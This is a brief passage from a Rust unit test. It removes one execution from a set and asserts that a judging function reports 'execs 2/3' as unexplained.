    missing_exec.remove(2);
    let (_, unexplained) = judge(&count(&missing_exec, app, &workload), &all);
    assert_eq!(unexplained, ["execs 2/3"]);
}
